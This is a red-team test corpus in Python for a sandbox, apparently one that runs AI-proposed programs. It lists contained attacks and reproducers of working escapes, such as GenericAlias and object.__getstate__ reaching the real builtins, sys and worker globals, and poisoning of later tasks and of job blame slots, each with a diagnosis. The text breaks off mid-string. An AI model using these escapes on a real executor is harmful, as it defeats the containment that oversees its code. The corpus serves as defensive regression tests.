"""Third red team of the executor (issue 12), after the second round's faults were fixed.

Plain data, like ``redteam2_corpus.py``; ``test_redteam3.py`` runs it. Written from a reading of
``azr_env/executor/`` as it stands after the second round's fixes, aimed at the new mechanisms:
the set-order swap in the types' dicts during validation's repeated call, hash inversion,
``_azr_augmented_``, the per-site match stand-ins, the class-body ``global`` declarations, the
name rules for code that dataclasses and namedtuple generate, and the ownership rule that decides
which guarded attributes (``__dict__``, ``__kwdefaults__``, private names ...) a program may read.

``ATTACKS`` and ``POISONS`` were tried and found contained; they stay as regression tests.
``FAULTS`` got through: each has a minimal reproducer, its severity, a ``kind`` that tells the test
how to check it, and the diagnosis of the root cause (file:function). Their tests are marked
``xfail(strict=True)``: fixing the root turns them green. ``FALSE_POSITIVES`` are harmless
programs answered differently from plain Python (also xfail). ``BENIGN3`` are ordinary programs
of the kind a proposer writes that the executor answers as plain Python does: regression tests.

Severity, highest first: os, leak, escape (a handle on the real builtins, sys, frames or the
worker), poison (another task computes or prints something else), nondeterminism (accepted),
api (a method raises or a worker crashes), false_positive.
"""
from __future__ import annotations

import textwrap


def _p(source: str) -> str:
    return textwrap.dedent(source).strip("\n") + "\n"


# -- building blocks ---------------------------------------------------------------------------------
# object.__getattribute__ itself (the unguarded getattr), with no import: types.GenericAlias (the
# class of ``list[int]``) takes any origin and forwards every attribute read to it, and the guards
# judge __dict__ by the alias, which the program made.
UNGUARDED_GETATTR = _p("""
    GA = type(list[int])
    oga = GA(object, ()).__dict__['__getattribute__']
""")

# -- contained: every layer on --------------------------------------------------------------------------
# (name, program, inputs, expect): "refused" (status is not ok), "contained" (any status, no effect).
ATTACKS: list[tuple[str, str, str, str]] = [
    ("set_pop_swap_function_closure",
     "def f(a):\n    p = set.pop\n    return [c.cell_contents for c in p.__closure__]\n", "0", "refused"),
    ("set_iter_swap_function_globals",
     "def f(a):\n    it = set.__iter__\n    return sorted(getattr(it, '__glo' + 'bals__'))\n", "0", "refused"),
    ("set_iter_swap_function_code",
     "def f(a):\n    it = set.__iter__\n    return getattr(it, '__co' + 'de__').co_consts\n", "0", "refused"),
    ("reversed_set_iterator_frame",
     "def f(a):\n    g = iter({'a', 'b'})\n    return getattr(g, 'gi_' + 'frame').f_back.f_globals['TASK']\n", "0", "refused"),
    ("fromkeys_swap_function_defaults",
     "def f(a):\n    fk = dict.fromkeys\n    return [fk.__func__.__defaults__, fk.__func__.__kwdefaults__, fk.__func__.__dict__]\n",
     "0", "contained"),
    ("augmented_assignment_on_a_library_private_attribute",
     "import string\ndef f(a):\n    t = string.Template('$x')\n    t._invalid += 1\n    return a\n", "0", "refused"),
    ("augmented_assignment_on_self_of_a_builtin",
     "def f(a):\n    len.__self__ += 1\n    return a\n", "0", "refused"),
    ("augmented_assignment_on_a_refused_attribute",
     "def g():\n    pass\ndef f(a):\n    g.__globals__ += 1\n    return a\n", "0", "refused"),
    ("class_pattern_keyword_reads_library_private",
     "import typing\ndef f(a):\n    match typing.ForwardRef('x'):\n        case typing.ForwardRef(_evaluate=e):\n            return e\n",
     "0", "refused"),
    ("value_pattern_reads_library_private",
     "import string\ndef f(a):\n    match a:\n        case string.Template._invalid:\n            return 1\n    return 0\n",
     "0", "refused"),
    ("class_body_prepare_prefills_the_helpers",
     _p("""
        class Meta(type):
            @classmethod
            def __prepare__(mcs, name, bases):
                return {'_getattr_': lambda obj, name: len.__self__, '_write_': lambda obj: obj}
        class C(metaclass=Meta):
            w = [].__class__.__subclasses__    # must go through the real _getattr_, not the prefilled one
        def f(a):
            return sorted(C.w)
     """), "0", "refused"),
    ("class_body_locals_rebinds_a_hoisted_site",
     _p("""
        class C:
            locals()['_azr_match_0'] = object
            match len:
                case object(__self__=bm):
                    name = bm.__name__
        def f(a):
            return C.name
     """), "0", "refused"),
    ("dataclass_field_named_like_a_refused_attribute",
     "from dataclasses import dataclass\n@dataclass\nclass C:\n    __globals__: int = 0\ndef f(a):\n    return repr(C())\n",
     "0", "refused"),
    ("namedtuple_field_name_with_code",
     "from collections import namedtuple\ndef f(a):\n    return namedtuple('P', ['x, y=__import__(\"os\")'])\n", "0", "refused"),
    ("hash_salt_probe_through_a_lying_str_subclass",
     _p("""
        class S(str):
            def __hash__(self):
                return 7
        def f(a):
            return [hash(S('k')), len({S('a'), S('b')})]
     """), "0", "contained"),
    ("set_subclass_iter_calls_the_swapped_iter",
     _p("""
        class S(set):
            def __iter__(self):
                return iter(sorted(set.__iter__(self)))
        def f(a):
            return list(S({'b', 'a', 'c'}))
     """), "0", "contained"),
]

# (name, poison, check): the check prints what a fresh executor prints, whatever ran before it.
POISONS: list[tuple[str, str, str]] = [
    # copy._reconstruct sets attributes with the real setattr on whatever the reducer returns (a
    # frozen library class here): contained, because a program that imports copy runs alone.
    ("copy_reconstruct_writes_a_library_class",
     _p("""
        import copy, string
        class R:
            def __reduce_ex__(self, protocol):
                return (lambda: string.Template, (), (None, {'poisoned': True}))
        def f(a):
            copy.copy(R())
            return hasattr(string.Template, 'poisoned')
     """),
     "import string\ndef f(a):\n    return hasattr(string.Template, 'poisoned')\n"),
]


# -- faults ---------------------------------------------------------------------------------------------
FAULTS: list[dict] = [
    # ---- escape: with every layer on, program code holds the real builtins, sys, frames -------------
    dict(
        name="generic_alias_forwards_guarded_attributes", severity="escape", kind="escape",
        program=UNGUARDED_GETATTR + _p("""
            def f(a):
                guards = oga(getattr, '__globals__')        # the task's getattr is the guards' function
                return [guards['sys'].__name__, sorted(k for k in guards if k in ('TASK', 'FROZEN', 'builtins'))]
        """),
        diagnosis="_guards.py:_guarded_load decides whether a program may have the raw __dict__, __defaults__, "
                  "__kwdefaults__ or __annotations__ by program_owned(obj), the object the attribute was read "
                  "*from*; and _guards.py:_private_ok judges private names by type(obj)'s dicts. Objects that "
                  "forward attribute reads to another object defeat both: types.GenericAlias (reachable with no "
                  "import as type(list[int]), and it accepts any origin) forwards every name but a short list to "
                  "its origin, so GA(object, ()).__dict__ is object's real mappingproxy (the alias is the "
                  "program's), whose '__getattribute__' entry is the unguarded slot wrapper: it reads "
                  "__globals__ (no audit event in 3.11) of the guards' own getattr: TASK, FROZEN, the real sys "
                  "and builtins. GA(enum.Enum, ())._convert_ passes _private_ok the same way (GenericAlias "
                  "defines no __getattr__). Other proxies do the same: a bound method forwards to __func__ (see "
                  "bound_method_forwards_library_kwdefaults), staticmethod/classmethod share __annotations__, "
                  "super(enum.EnumType, enum.Enum).__dict__ is Enum's raw mappingproxy. No import is needed "
                  "for the GenericAlias road, so this runs in the persistent runner. Judge by the value (or "
                  "the object it really came from), not by the proxy.",
    ),
    dict(
        name="object_getstate_hands_out_real_dicts", severity="escape", kind="escape",
        program=_p("""
            def f(a):
                oga = object.__getstate__(object)['__getattribute__']   # object's real tp_dict
                guards = oga(getattr, '__globals__')
                subclasses = object.__getstate__(type)['__subclasses__'](object)
                return guards['sys'].__name__, sorted(c.__name__ for c in subclasses if c.__name__ in ('_Task', 'Zygote'))
        """),
        diagnosis="object.__getstate__ (new in 3.11) returns an object's __dict__ itself, and for a class that "
                  "is its real, writable tp_dict (not the read-only mappingproxy that cls.__dict__ gives). "
                  "_guards.py guards the *name* __dict__ (_guarded_load, guarded_vars) and refuses a library "
                  "class's dict there, but __getstate__ is neither refused nor guarded (policy.GUARDED_ATTRIBUTES), "
                  "so with no import: object's '__getattribute__' (the unguarded getattr, which reads "
                  "__globals__ of the guards' getattr: the real sys, builtins, TASK) and type's '__subclasses__' "
                  "(every class of the worker: _Task, Zygote, SetOrder). Guard __getstate__ like __dict__.",
    ),
    dict(
        name="typing_alias_getattr_reads_library_private_names", severity="escape", kind="escape",
        program=_p("""
            import enum, typing
            class K:
                pass
            def f(a):
                alias = typing.List[K]                      # a fresh alias: the program's
                alias.__origin__ = enum.Enum
                convert = alias.__getattr__('_convert_')    # typing reads it with the real getattr
                X = convert('X', 'builtins', lambda name: name == 'getattr')
                real_getattr = X.getattr.value              # builtins.getattr itself, as an enum value
                return real_getattr(len, '__self__').__name__
        """),
        diagnosis="typing._BaseGenericAlias.__getattr__ forwards every non-dunder name to self.__origin__ with "
                  "typing's own (real) getattr, and __origin__ is writable on an alias the program made "
                  "(_BaseGenericAlias.__setattr__ passes dunders to object.__setattr__; _guards.py:write_guard "
                  "allows it since the alias is program-owned). Calling alias.__getattr__(name) directly, or "
                  "reading a missing attribute, reaches any non-dunder attribute of any object past "
                  "_guards.py:_private_ok and check_attribute_name: library private names (Enum._convert_, "
                  "whose classmethod builds an enum from sys.modules[module].__dict__ and so hands out "
                  "builtins.getattr, eval, open ... as member values, and writes the enum into that module), "
                  "and the non-dunder refused names CPython does not audit (f_back, f_globals, f_locals, "
                  "f_builtins, cell_contents). _BaseGenericAlias.__setattr__ likewise writes any non-dunder "
                  "attribute of the origin with the real setattr. The typing view must not hand out alias "
                  "objects whose __getattr__/__setattr__ act for the program with typing's builtins.",
    ),
    dict(
        name="dataclass_generated_eq_reads_private_attributes_of_any_object", severity="escape", kind="escape",
        program=_p("""
            import enum
            from dataclasses import dataclass
            box = []
            @dataclass
            class C:
                _convert_: int = 0
            class Grab:
                def __eq__(self, other):
                    box.append(other)                       # Enum._convert_, bound
                    return True
            class Fake:
                _convert_ = Grab()
                @property
                def __class__(self):
                    return enum.EnumType                    # passes `other.__class__ is self.__class__`
            def f(a):
                C.__eq__(enum.Enum, Fake())                 # `(self._convert_,) == (other._convert_,)`
                X = box[0]('X', 'builtins', lambda name: name == 'getattr')
                return X.getattr.value(len, '__self__').__name__
        """),
        diagnosis="_guards.py:_dataclass_names lets code generated by dataclasses._create_fn (trusted by code "
                  "identity in _TRUSTED_GENERATORS) load private attribute names unrewritten, reasoning that a "
                  "field name is checked to be an identifier and is only read 'into repr text, comparisons and "
                  "hashes'. But the generated functions are ordinary functions on the program's class, callable "
                  "with any `self`: C.__eq__(x, y) reads x._f and y._f with plain LOAD_ATTR and compares them "
                  "with ==, which hands x._f to y._f's reflected __eq__. With x = enum.Enum and a `y` whose "
                  "__class__ property answers EnumType, the program receives Enum._convert_ (a library private "
                  "name _private_ok refuses), which builds an enum from the real builtins module's dict: the "
                  "real getattr, eval, open. __repr__, __lt__ (order=True) and __hash__ leak the same way, "
                  "__init__ writes any attribute of any object. A trusted generator must not make private "
                  "attribute loads of objects other than the program's own instances.",
    ),
    dict(
        name="dataclasses_replace_reads_library_private_names", severity="escape", kind="escape",
        program=_p("""
            import dataclasses, enum
            box = []
            field = dataclasses.field()
            field.name = '_convert_'                            # a Field the program owns
            class Meta(enum.EnumType):
                __dataclass_fields__ = {'x': field}             # set by hand, never checked
                def __new__(mcs, *args, **kwargs):
                    if not args:                                # replace() calls E.__class__(**changes)
                        box.append(kwargs)
                        return None
                    return super().__new__(mcs, *args, **kwargs)
            class E(enum.Enum, metaclass=Meta):
                A = 1
            def f(a):
                dataclasses.replace(E)                          # getattr(E, '_convert_'), dataclasses' own
                X = box[0]['_convert_']('X', 'builtins', lambda name: name == 'getattr')
                return X.getattr.value(len, '__self__').__name__
        """),
        diagnosis="dataclasses.replace (and asdict, astuple) read getattr(obj, f.name) for every Field in "
                  "type(obj).__dataclass_fields__, with dataclasses' own (real) getattr. _guards.py checks field "
                  "names only when a class is decorated (_checked_dataclass, _check_inherited_fields); a "
                  "__dataclass_fields__ the program sets by hand, holding Field objects whose name it wrote "
                  "afterwards (program-owned, so write_guard allows it), is never checked. Any attribute of "
                  "the object past _guards.py:_private_ok and check_attribute_name: here Enum._convert_ "
                  "through a metaclass, which yields the real builtins (see "
                  "typing_alias_getattr_reads_library_private_names), and __traceback__ of a program "
                  "exception. Library functions that read attributes named by program data need the same "
                  "check as getattr (or a view of dataclasses whose replace/asdict/astuple check the names).",
    ),
    dict(
        name="cached_property_reads_library_class_dicts", severity="escape", kind="escape",
        program=_p("""
            import functools
            def f(a):
                cp = functools.cached_property(len)
                cp.attrname = '__getattribute__'
                oga = cp.__get__(object, None)              # object.__dict__['__getattribute__']
                return oga(getattr, '__globals__')['sys'].__name__
        """),
        diagnosis="functools.cached_property.__get__(instance, owner) reads instance.__dict__ and returns "
                  "cache.get(self.attrname) with functools' own attribute access, for any instance, a class "
                  "included: for a library class that is its mappingproxy, so the entry comes back raw (an "
                  "unbound slot wrapper, type.__dict__['__subclasses__'], object.__getattribute__). attrname is "
                  "writable on the program's cached_property (or set by __set_name__). _guards.py:_guarded_load "
                  "refuses a library class's __dict__ only when the *program* names __dict__; library code that "
                  "reads a __dict__ on its behalf is not covered. object.__getattribute__ then reads "
                  "__globals__ of the guards' getattr: the real sys and builtins.",
    ),
    dict(
        name="global_enum_writes_real_modules_and_runs_after_the_window", severity="escape", kind="after_window",
        program=_p("""
            import enum
            class Clock(enum.Enum):
                monotonic = 1
                def __call__(self):
                    raise RuntimeError('the program runs inside the worker, after its window')
            Clock.__module__ = 'time'
            def f(a):
                enum.global_enum(Clock)                     # time.monotonic is now Clock.monotonic
                return a
        """),
        diagnosis="enum.global_enum(cls) runs sys.modules[cls.__module__].__dict__.update(cls.__members__), and "
                  "__module__ is the program's to set: the members land in any real module of the worker "
                  "('time', 'os', 'struct', 'json', 'builtins' ...), not in the decoy __main__ (_worker.py sets "
                  "only sys.modules['__main__'] aside). _worker.py:_run_job calls time.monotonic() after the "
                  "window has closed (task.untrusted False: the audit hook waves everything through); the "
                  "member's __call__ runs there, and its exception comes back as a 'worker:' error. The same "
                  "write into 'builtins' replaces str/repr/isinstance for the worker's own code, and "
                  "Enum._convert_ (see typing_alias_getattr_reads_library_private_names) writes an enum into "
                  "any module too. In a one-shot child, so no later task is touched; the window is not closed.",
    ),
    # ---- poison: another task computes or prints something else -------------------------------------
    dict(
        name="escaped_runner_forges_every_later_answer", severity="poison", kind="poison",
        poison=UNGUARDED_GETATTR + _p("""
            def f(a):
                guards = oga(getattr, '__globals__')
                handler = guards['sys'].modules['signal'].getsignal(14)   # the worker's _on_alarm
                worker = oga(handler, '__globals__')
                worker['_render'] = lambda value: "'forged'"
                worker['_survivors'] = lambda ours=(): None
                return a
        """),
        check="def f(a):\n    return a + 1\n",
        diagnosis="Consequence of generic_alias_forwards_guarded_attributes, in the persistent runner with no "
                  "import at all: the guards' globals give the real sys, sys.modules['signal'].getsignal gives "
                  "the worker's alarm handler, and its __globals__ are the runner's: every later job of that "
                  "runner (validate and check_answers included) gets the answer the program chose, and the "
                  "survivor check that would retire the runner is switched off.",
    ),
    dict(
        name="object_getstate_writes_a_builtin_types_dict", severity="poison", kind="poison",
        poison="def f(a):\n    object.__getstate__(str)['poisoned'] = True\n    return a\n",
        check="def f(a):\n    return 'poisoned' in dir(str)\n",
        diagnosis="Same root as object_getstate_hands_out_real_dicts: the dict object.__getstate__(cls) returns "
                  "is the class's own, writable, for builtin types too (str, int, set, dict ...), with no "
                  "import, in the persistent runner. A key written there is seen by every later task of that "
                  "runner (dir(str), hasattr(str, ...) once the type's lookup cache is refreshed; an existing "
                  "method replaced the same way can take over once its cache entry is gone). Frozen values "
                  "(True, str.lower) leave no survivor for _worker.py:_survivors to find.",
    ),
    dict(
        name="bound_method_forwards_library_kwdefaults", severity="poison", kind="poison",
        poison=_p("""
            import heapq
            class A:
                def m(self):
                    pass
            def f(a):
                kwdefaults = type(A().m)(heapq.merge, 0).__kwdefaults__   # heapq.merge's own dict
                kwdefaults['reverse'] = True
                return a
        """),
        check="import heapq\ndef f(a):\n    return list(heapq.merge([1, 3], [2, 4]))\n",
        diagnosis="Same root as generic_alias_forwards_guarded_attributes (_guards.py:_guarded_load judges "
                  "__kwdefaults__/__dict__/__annotations__ by the object they are read from): a bound method "
                  "the program builds with type(A().m)(library_function, x) forwards every attribute it lacks "
                  "to its __func__, and the method is program-owned, so heapq.merge's real __kwdefaults__ dict "
                  "comes back instead of a copy. heapq is stateless, so the task runs in the persistent runner "
                  "and every later task there merges in reverse (first round's heapq_merge_kwdefaults, by "
                  "another road).",
    ),
    dict(
        name="staticmethod_shares_a_library_functions_annotations", severity="poison", kind="poison",
        poison=_p("""
            import heapq
            def f(a):
                shared = staticmethod(heapq.merge).__annotations__   # the same dict as heapq.merge's
                shared['return'] = 'poisoned'
                return a
        """),
        check="import heapq\ndef f(a):\n    return dict(heapq.merge.__annotations__)\n",
        diagnosis="staticmethod and classmethod (3.10+) copy __annotations__ of the callable they wrap into "
                  "their own __dict__ as the *same* dict object, and the wrapper is program-owned, so "
                  "_guards.py:_guarded_load returns it raw. For a library function without annotations that dict "
                  "is created lazily, during the task, so even a check on the value's ownership would pass it "
                  "(program_owned(value) is True for a dict the library made after freeze()). It persists in "
                  "the frozen function: a channel from one task to the next in the persistent runner (the "
                  "check above reads it; a counter kept there makes `run` answer 1, 2, 3 ... for one program).",
    ),
    dict(
        name="runner_writes_its_own_blame_slot", severity="poison", kind="slot_self",
        # Python layers off (the OS layer and the zygote must hold on their own); with every layer on the
        # same code runs after generic_alias_forwards_guarded_attributes.
        program=_p("""
            def f(a):
                sys = __import__('sys')
                struct = __import__('struct')
                fr = sys._getframe(0)
                while not ('slot' in fr.f_locals and 'jobs' in fr.f_locals):
                    fr = fr.f_back                                       # up to runner_main
                ids = [job[0] for job in fr.f_locals['jobs']]
                later = ids[ids.index(fr.f_locals['job_id']) + 1:]        # honest jobs queued behind
                slot = fr.f_locals['slot']
                while True:
                    try:
                        while True:
                            if later:
                                slot[:8] = struct.pack('<q', later[0])  # blame the next honest job
                    except BaseException:                                # the alarm, every 50 ms
                        pass
        """),
        diagnosis="_worker.py:Zygote._runner_died blames the job id the runner itself wrote into its blame slot "
                  "(runner_main: current.pack_into(slot, ...)); the slot is an anonymous shared mmap the "
                  "runner's program can reach once it holds a frame (Python layers off here; with every layer "
                  "on, through generic_alias_forwards_guarded_attributes). A spinning program writes the id of "
                  "the honest job queued behind it: each time the zygote kills the runner for time, that "
                  "honest job is reported 'timeout' and the spinner runs again in the fresh runner, until every "
                  "job of its chunk has been blamed (6 of 6 in the reproducer). The redteam2 fix kept the slot "
                  "from one-shot children only; the runner must not be the one that says which job it was "
                  "running (e.g. blame the oldest unanswered job and rerun the others, or flush an answer "
                  "before each job).",
    ),
    # ---- accepted nondeterminism ------------------------------------------------------------------
    # Each entry: 20 variants of one idea, each seed- or address-dependent in plain Python (checked under
    # six hash seeds in separate processes when the entry was written); two random seeds agree on about
    # half of them, so about 10 of 20 are accepted. A sound check accepts none.
    dict(
        name="work_done_outside_the_repeated_call_is_never_perturbed", severity="nondeterminism",
        kind="nondet_validate",
        programs=[
            *(f"ORDER = list({{'x{k}', 'y{k}'}})\ndef f(a):\n    return ORDER\n" for k in range(7)),
            *(f"from functools import lru_cache\n@lru_cache(maxsize=None)\ndef f(a):\n    return list({{'x{k}', 'y{k}'}})\n"
              for k in range(7, 14)),
            *(f"_memo = {{}}\ndef f(a):\n    if a not in _memo:\n        _memo[a] = hash('k{k}') % 2\n    return _memo[a]\n"
              for k in range(14, 20)),
        ],
        diagnosis="_worker.py:_run_job perturbs set order and hash() only for the second call of f "
                  "(_perturb_order at call == 1), in the namespace the first call left behind. Whatever the "
                  "program computed before that (module-level code: ORDER = list(some_set_of_strings); or "
                  "the first call, remembered by @lru_cache/@cache on f or a module-level memo dict) comes "
                  "back unperturbed, so the repeated call agrees with the first and only the two seeds judge: "
                  "about half accepted. Module-level constants built from sets and memoised f are everyday "
                  "code. The perturbed run needs a namespace of its own, with the module body perturbed too.",
    ),
    dict(
        name="hash_inversion_skipped_in_functions_named_hash", severity="nondeterminism", kind="nondet_validate",
        programs=[f"def __hash__(s):\n    return hash(s)\ndef f(a):\n    return __hash__('k{k}') % 2\n" for k in range(20)],
        diagnosis="_guards.py:guarded_hash leaves hash() alone inside a __hash__ method (so equal objects hash "
                  "alike within the call) and recognises one by sys._getframe(1).f_code.co_name == '__hash__': "
                  "any function the program names __hash__ (a module-level helper, a method of an unrelated "
                  "class) gets the seed's real hash in validation's repeated call, and only the two seeds judge.",
    ),
    dict(
        name="str_hash_method_bypasses_the_guarded_hash", severity="nondeterminism", kind="nondet_validate",
        programs=[(f"def f(a):\n    return 'k{k}'.__hash__() % 2\n" if k % 2 else
                   f"def f(a):\n    return str.__hash__('k{k}') % 2\n") for k in range(20)],
        diagnosis="Only the hash builtin is replaced (_guards.py:_build_builtins -> guarded_hash); str.__hash__, "
                  "bytes.__hash__ and tuple.__hash__ called as methods are the interpreter's slot wrappers, so "
                  "the repeated call sees the same value as the first and only the two seeds judge.",
    ),
    dict(
        name="hash_of_objects_that_hash_strings_is_not_inverted", severity="nondeterminism", kind="nondet_validate",
        programs=[
            *(f"class K:\n    def __init__(self, s):\n        self.s = s\n    def __hash__(self):\n"
              f"        return hash(self.s)\ndef f(a):\n    return hash(K('k{k}')) % 2\n" for k in range(7)),
            *(f"from dataclasses import dataclass\n@dataclass(frozen=True)\nclass P:\n    s: str\n"
              f"def f(a):\n    return hash(P('k{k}')) % 2\n" for k in range(7, 14)),
            *(f"def f(a):\n    return hash(memoryview(b'k{k}')) % 2\n" for k in range(14, 17)),
            *(f"import enum\nclass C(enum.Enum):\n    A{k} = 1\ndef f(a):\n    return hash(C.A{k}) % 2\n"
              for k in range(17, 20)),
        ],
        diagnosis="_guards.py:guarded_hash inverts only when _guards.py:seed_dependent(obj) says so, and that "
                  "knows only str, bytes and tuples/frozensets of them. An object whose own __hash__ hashes a "
                  "string (a program class, a frozen dataclass with a str field, an Enum member: "
                  "hash(self._name_), a memoryview of bytes) gets its real, seed-dependent hash in the repeated "
                  "call (inside __hash__ the inner hash is deliberately left alone). The probe that "
                  "order_free uses (TASK.hash_probe) would tell, but guarded_hash does not ask it.",
    ),
    dict(
        name="sets_hashed_by_library_code_keep_their_order", severity="nondeterminism", kind="nondet_validate",
        programs=[
            *(f"import enum\nclass C(enum.Enum):\n    X{k} = 1\n    Y{k} = 2\n"
              f"def f(a):\n    return [c.value for c in {{C.X{k}, C.Y{k}}}]\n" for k in range(6)),
            *(f"import re\ndef f(a):\n    return [p.pattern for p in {{re.compile('x{k}'), re.compile('y{k}')}}]\n"
              for k in range(6, 10)),
            *(f"def f(a):\n    return [bytes(m) for m in {{memoryview(b'x{k}'), memoryview(b'y{k}')}}]\n"
              for k in range(10, 14)),
            *(f"class K:\n    def __init__(self, s):\n        self.s = s\n    def __eq__(self, o):\n"
              f"        return self.s == o.s\n    def __hash__(self):\n        return self.s.__hash__()\n"
              f"def f(a):\n    return [k.s for k in {{K('x{k}'), K('y{k}')}}]\n" for k in range(14, 20)),
        ],
        diagnosis="_setorder.py:SetOrder._reorders asks _guards.py:order_free whether a set's order depends on "
                  "the seed; for a type with its own __hash__, order_free hashes the item with the probe set "
                  "and looks whether the *task's* hash builtin saw a seed-dependent value. Enum.__hash__ "
                  "(hash(self._name_)) runs in enum's module with the real builtins, and re.Pattern and "
                  "memoryview hash in C, and a program's own __hash__ may return self.name.__hash__() (the str "
                  "slot, not the task's hash builtin): the probe sees nothing, the set is judged order-free, "
                  "it is not reversed in the repeated call, and only the two seeds judge. (A __hash__ that "
                  "raises when probed is swallowed by _reorders' `except BaseException: return False`, with "
                  "the same effect.) Sets of enum members are everyday code.",
    ),
    dict(
        name="str_subclasses_pass_both_checks", severity="nondeterminism", kind="nondet_validate",
        programs=[
            *(f"class Tag(str):\n    pass\ndef f(a):\n    return list({{Tag('x{k}'), Tag('y{k}')}})\n" for k in range(7)),
            *(f"class Tag(str):\n    pass\ndef f(a):\n    return hash(Tag('k{k}')) % 2\n" for k in range(7, 14)),
            *(f"import enum\nclass C(enum.StrEnum):\n    X{k} = 'x{k}'\n    Y{k} = 'y{k}'\n"
              f"def f(a):\n    return [str(c) for c in {{C.X{k}, C.Y{k}}}]\n" for k in range(14, 20)),
        ],
        diagnosis="_guards.py:seed_dependent and order_free (and _setorder.py:SetOrder._reorders' fast path) test "
                  "`type(x) is str` / `kind is str`: a subclass of str (a program's Tag(str), every StrEnum "
                  "member, a str-mixin Enum) is neither inverted by guarded_hash nor reversed in a set (its "
                  "__hash__ is str's C slot, which the probe does not see). Only the two seeds judge.",
    ),
    dict(
        name="addresses_pass_validation", severity="nondeterminism", kind="nondet_validate",
        programs=[*(f"def f(a):\n    return (id(object()) >> ({20 + k})) & 1\n" for k in range(10)),
                  *(f"class O:\n    pass\ndef f(a):\n    return (hash(O()) >> ({16 + k})) & 1\n" for k in range(10))],
        diagnosis="id() and the default hash() of an object are its address, which differs between processes "
                  "(ASLR) but is usually the same in the repeated call of one process; the README says id() is "
                  "caught, yet _guards.py exempts 'builtins.id' (_BENIGN_EVENTS) and guarded_hash inverts only "
                  "seed-dependent values (seed_dependent(object()) is False). A bit of the address agrees "
                  "between the two workers about half the time: 10 to 17 of 20 accepted. Perturb id() and "
                  "identity hashes in the repeated call as hash() of strings is.",
    ),
    dict(
        name="set_methods_saved_before_the_repeated_call", severity="nondeterminism", kind="nondet_validate",
        programs=[
            *(f"POP = set.pop\ndef f(a):\n    return POP({{'x{k}', 'y{k}'}})\n" for k in range(7)),
            *(f"ITER = set.__iter__\ndef f(a):\n    return list(ITER({{'x{k}', 'y{k}'}}))\n" for k in range(7, 14)),
            *(f"FROM_KEYS = dict.fromkeys\ndef f(a):\n    return list(FROM_KEYS({{'x{k}', 'y{k}'}}))\n"
              for k in range(14, 20)),
        ],
        diagnosis="_setorder.py swaps Python functions into set's, frozenset's and dict's type dicts for the "
                  "repeated call only (_worker.py:_perturb_order, at call 1). A reference the program took "
                  "before that (at module level, during the first call: set.pop, set.__iter__, "
                  "dict.fromkeys) is the interpreter's own method, which walks the table in the seed's order: "
                  "the repeated call agrees with the first and only the two seeds judge.",
    ),
    dict(
        name="set_subclass_made_before_the_repeated_call", severity="nondeterminism", kind="nondet_validate",
        programs=[f"class Tags(set):\n    pass\ndef f(a):\n    return list(Tags(['x{k}', 'y{k}']))\n" for k in range(20)],
        diagnosis="Documented (README, _setorder.py docstring), listed because the outcome is accepted "
                  "nondeterminism all the same: a subclass of set made at module level copied set's original "
                  "tp_iter when it was created, before _setorder.py:SetOrder.install points set's slot at the "
                  "generic one, so its iteration is never reversed. A module-level `class Tags(set)` is "
                  "ordinary code.",
    ),
    dict(
        name="pop_from_a_large_set", severity="nondeterminism", kind="nondet_validate",
        programs=[f"def f(a):\n    s = {{'w{k}_%d' % i for i in range(70)}}\n    return s.pop() < 'w{k}_4'\n" for k in range(20)],
        diagnosis="Documented (_setorder.py: _SMALL = 64): set.pop on a set of more than 64 elements keeps the "
                  "interpreter's order in the repeated call, so a program whose output is one bit of which "
                  "element pops first is judged by the two seeds alone (about half accepted).",
    ),
]


# Harmless programs answered differently from plain Python. (name, program, inputs, diagnosis); all run
# through validate and compared with plain Python under three hash seeds (deterministic there).
FALSE_POSITIVES: list[tuple[str, str, str, str]] = [
    ("module_level_hash_table_queried_in_f",
     _p("""
        class HashMap:
            def __init__(self, size=8):
                self.buckets = [[] for _ in range(size)]
            def _slot(self, key):
                return hash(key) % len(self.buckets)
            def put(self, key, value):
                self.buckets[self._slot(key)].append((key, value))
            def get(self, key, default=None):
                for k, v in self.buckets[self._slot(key)]:
                    if k == key:
                        return v
                return default
        STOCK = HashMap()
        for name, qty in [('apple', 3), ('pear', 5), ('fig', 2)]:
            STOCK.put(name, qty)
        def f(items):
            return [STOCK.get(i, 0) for i in items]
     """), "['apple', 'kiwi', 'fig']",
     "_guards.py:guarded_hash inverts seed-dependent hashes in validation's repeated call, but the program's "
     "module-level code (and the first call) ran with the real ones: a hash table filled at module level and "
     "queried in f looks in the wrong bucket in the repeated call ([0, 0, 0] instead of [3, 0, 2]) and the "
     "program is judged NONDETERMINISTIC, although its output is the same under every seed. Inverting "
     "hash() changes the value a deterministic program computes; only what *escapes into the output* "
     "should differ."),
    ("augmented_private_attribute_with_super_call",
     _p("""
        class Base:
            def bonus(self):
                return 10
        class Account(Base):
            def __init__(self):
                self._balance = 0
            def bonus(self):
                return 5
            def deposit(self, n):
                self._balance += n + super().bonus()
                return self._balance
        def f(n):
            return Account().deposit(n)
     """), "3",
     "screen.py:_SandboxPolicy.visit_AugAssign turns `obj._x op= value` into "
     "_azr_augmented_(obj, '_x', op, lambda: value, True): the value moves into a lambda, a new scope. "
     "Zero-argument super() there has no first argument to bind: 'RuntimeError: super(): no arguments'. "
     "A walrus in the value binds in the lambda (the name is then undefined after), a yield makes the "
     "lambda a generator (TypeError), an await does not compile."),
    ("augmented_private_attribute_with_walrus",
     _p("""
        class Stats:
            def __init__(self):
                self._sum = 0
            def add(self, xs):
                self._sum += (n := len(xs))
                return n * 10 + self._sum
        def f(xs):
            return Stats().add(xs)
     """), "[1, 2, 3]",
     "Same as augmented_private_attribute_with_super_call: the walrus binds n inside the screen's lambda, "
     "so `n` is undefined after the statement (NameError)."),
    ("augmented_private_attribute_with_yield",
     _p("""
        class Accumulator:
            def __init__(self):
                self._total = 0
            def run(self):
                while True:
                    self._total += yield self._total
        def f(xs):
            acc = Accumulator()
            gen = acc.run()
            next(gen)
            for x in xs:
                gen.send(x)
            return acc._total
     """), "[1, 2, 3]",
     "Same as augmented_private_attribute_with_super_call: `yield` inside the screen's lambda makes the "
     "lambda a generator, so `self._total += <generator>` raises TypeError."),
    ("class_pattern_reevaluated_after_a_recursive_guard",
     _p("""
        def describe(value, schema):
            expected = list if isinstance(schema, list) else schema
            match value:
                case [first, *_] if isinstance(schema, list) and describe(first, schema[0]) == 'ok':
                    return 'ok'
                case expected():
                    return 'shape'
                case _:
                    return 'wrong'
        def f(value, schema_name):
            return describe(value, {'ints': [int], 'strs': [str]}[schema_name])
     """), "['x'], 'ints'",
     "A wrong answer, accepted: validate says ok with 'wrong' where Python returns 'shape'. "
     "_guards.py:match_class keeps one stand-in per call site and task and, each time the hoisted "
